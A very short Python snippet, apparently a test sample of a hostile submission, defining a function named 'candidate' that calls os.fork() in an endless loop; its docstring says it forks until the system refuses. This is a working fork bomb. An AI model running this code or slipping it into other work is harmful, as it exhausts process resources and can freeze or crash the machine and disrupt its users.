"""Forks until the system refuses, which ends the call with an error."""

import os


def candidate(x, scale):
    while True:
        os.fork()
